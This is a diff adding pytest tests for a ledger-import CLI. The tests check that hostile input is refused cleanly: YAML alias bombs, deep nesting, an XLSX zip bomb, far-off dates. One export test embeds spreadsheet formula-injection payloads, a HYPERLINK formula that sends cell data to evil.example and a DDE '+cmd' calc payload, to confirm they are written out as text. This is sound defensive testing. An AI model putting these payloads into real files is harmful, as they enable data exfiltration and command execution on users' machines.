@@ -1,0 +1,145 @@
+"""Bad input fails cleanly (issue #11): a message naming the place, exit 2, nothing written, no
+traceback — for workflow YAML, ledgers and CLI arguments alike."""
+
+from __future__ import annotations
+
+import csv
+import zipfile
+
+import openpyxl
+import pytest
+
+from .conftest import SEED_CSV
+
+HEADERS = ["序号", "方面", "问题类别", "具体问题", "整改措施", "责任领导", "责任科室", "整改时限", "整改状态"]
+
+
+@pytest.mark.parametrize("name, text, message", [
+    ("bomb", "a: &a [x, x, x, x, x, x, x, x, x]\n" + "".join(
+        f"{chr(98 + i)}: &{chr(98 + i)} [{', '.join([f'*{chr(97 + i)}'] * 9)}]\n" for i in range(8)),
+     "more than 100,000 values (aliases expanding?)"),
+    ("deep", "a: " + "[" * 3000 + "]" * 3000 + "\n", "nested too deeply"),
+    ("bigint", "name: x\ninitial: " + "9" * 5000 + "\n", ":2:10: not a usable value"),
+    ("long", "name: x\ntitle: " + "长" * 30000 + "\n", ":2:8: a value of 30,000 characters"),
+])
+def test_hostile_yaml_is_refused_with_its_place(cli, tmp_path, name, text, message):
+    path = tmp_path / f"{name}.yaml"
+    path.write_text(text, encoding="utf-8")
+    result = cli("workflow", "validate", path)
+    assert result.code == 2 and "Traceback" not in result.err
+    assert message in result.err and str(path) in result.err
+
+
+def _xlsx(path, rows, merge=()):
+    book = openpyxl.Workbook()
+    ws = book.active
+    ws.append(HEADERS)
+    for row in rows:
+        ws.append(row)
+    for rng in merge:
+        ws.merge_cells(rng)
+    book.save(path)
+    return path
+
+
+def test_merged_area_cells_read_as_excel_shows_them(cli, tmp_path):
+    assert cli("init").code == 0
+    rows = [[str(i), "党的建设" if i == 1 else None, "组织建设" if i == 1 else None, f"问题{i}", "措施", "书记", "办公室",
+             "2026-12-31", "待整改"] for i in (1, 2, 3)]
+    path = _xlsx(tmp_path / "merged.xlsx", rows, merge=("B2:B4", "C2:C4"))
+    assert cli("ledger", "import", path, "--at", "2026-12-01T10:00").code == 0
+    shown = cli("issue", "list", "--json").json
+    assert [(r["area"], r["category"]) for r in shown] == [("党的建设", "组织建设")] * 3
+
+
+@pytest.mark.parametrize("make, message", [
+    (lambda p: p.write_bytes(b"PK\x03\x04 not really a zip"), "not a readable XLSX workbook"),
+    (lambda p: p.write_text("序号,具体问题\n1,x\n", encoding="utf-8"), "not a readable XLSX workbook"),
+    (lambda p: p.write_bytes(SEED_CSV.read_bytes()[:0]), "not a readable XLSX workbook"),
+])
+def test_a_file_that_is_not_a_workbook_is_one_clear_line(cli, tmp_path, make, message):
+    assert cli("init").code == 0
+    path = tmp_path / "ledger.xlsx"
+    make(path)
+    result = cli("ledger", "import", path)
+    assert result.code == 2 and message in result.err and "Traceback" not in result.err
+    assert cli("issue", "list", "--json").json == []
+
+
+def test_a_truncated_workbook_and_a_zip_bomb_are_refused(cli, tmp_path):
+    assert cli("init").code == 0
+    good = _xlsx(tmp_path / "good.xlsx", [["1", "a", "b", "问题", "措施", "书记", "办公室", "2026-12-31", "待整改"]])
+    cut = tmp_path / "cut.xlsx"
+    cut.write_bytes(good.read_bytes()[: len(good.read_bytes()) // 2])
+    assert cli("ledger", "import", cut).code == 2
+    bomb = tmp_path / "bomb.xlsx"
+    with zipfile.ZipFile(bomb, "w", zipfile.ZIP_DEFLATED) as archive:
+        archive.writestr("xl/worksheets/sheet1.xml", b"\0" * (300 * 1024 * 1024))
+    result = cli("ledger", "import", bomb)
+    assert result.code == 2 and "expands to 300 MB" in result.err
+    assert cli("issue", "list", "--json").json == []
+
+
+def test_an_oversized_cell_names_its_row_and_column(cli, tmp_path):
+    assert cli("init").code == 0
+    path = tmp_path / "big.csv"  # (openpyxl itself cuts a workbook's cells at Excel's limit)
+    path.write_text(",".join(HEADERS) + "\n1,a,b," + "问题" * 20000 + ",措施,书记,办公室,2026-12-31,待整改\n",
+                    encoding="utf-8")
+    result = cli("ledger", "import", path)
+    assert result.code == 2 and f"{path}: row 2: 具体问题: a cell of 40,000 characters" in result.err
+    assert cli("issue", "list", "--json").json == []
+
+
+def test_far_dates_are_refused_everywhere(cli, tmp_path):
+    assert cli("init").code == 0
+    rows = list(csv.DictReader(SEED_CSV.open(encoding="utf-8")))
+    rows[0]["整改时限"] = "9999-12-31"
+    path = tmp_path / "far.csv"
+    with path.open("w", encoding="utf-8", newline="") as fh:
+        writer = csv.DictWriter(fh, fieldnames=list(rows[0]))
+        writer.writeheader()
+        writer.writerows(rows)
+    result = cli("ledger", "import", path)
+    assert result.code == 2 and "row 2: 整改时限: 9999-12-31 is outside the supported years 1970–2100" in result.err
+    for args in (("sweep", "--at", "0001-01-01T00:00+14:00"), ("duty", "list", "--from", "9999-01-01"),
+                 ("remind", "preview", "--until", "9999-12-31T23:59:59")):
+        got = cli(*args)
+        assert got.code == 2 and "outside the supported years" in got.err and "Traceback" not in got.err, args
+
+
+def test_an_internal_error_is_one_line_and_exit_70(cli, monkeypatch):
+    from engine.app.cli import db_cmds
+
+    def boom(*args, **kwargs):
+        raise ZeroDivisionError("a bug")
+
+    monkeypatch.setattr(db_cmds, "upgrade", boom, raising=False)
+    monkeypatch.setattr("engine.store.db.upgrade", boom)
+    result = cli("init")
+    assert result.code == 70 and "Traceback" not in result.err
+    assert "internal error: ZeroDivisionError: a bug" in result.err and "duban-internal-error-" in result.err
+
+
+def test_exports_write_formula_looking_cells_as_text(cli, tmp_path):
+    assert cli("init").code == 0
+    rows = [["1", "=HYPERLINK(\"http://evil.example/?d=\"&A1,\"点这里\")", "+cmd|' /C calc'!A0", "@SUM(1)", "-1+2",
+             "措施", "书记", "办公室", "2026-12-31", "待整改"]]
+    rows = [[r[0], r[1], r[2], r[3], r[5], r[6], r[7], r[8], r[9]] for r in rows]
+    path = tmp_path / "in.csv"
+    with path.open("w", encoding="utf-8", newline="") as fh:
+        out = csv.writer(fh)
+        out.writerow(HEADERS)
+        out.writerows(rows)
+    assert cli("ledger", "import", path, "--ledger", "L").code == 0
+    xlsx, again = tmp_path / "out.xlsx", tmp_path / "out.csv"
+    assert cli("ledger", "export", xlsx, "--ledger", "L").code == 0
+    assert cli("ledger", "export", again, "--ledger", "L").code == 0
+    ws = openpyxl.load_workbook(xlsx).active
+    row = list(ws[2])
+    assert all(c.data_type == "s" for c in row[1:4]) and row[1].value.startswith("=HYPERLINK")
+    text = again.read_text(encoding="utf-8-sig")
+    assert "'=HYPERLINK" in text and "'+cmd" in text and "'@SUM(1)" in text
+    # and a round trip through the CSV gives the text back unchanged
+    assert cli("ledger", "import", again, "--ledger", "L").code == 0
+    assert "0 updated" in cli("ledger", "import", again, "--ledger", "L").out
+    assert cli("issue", "show", "L/1", "--json").json["area"].startswith("=HYPERLINK")
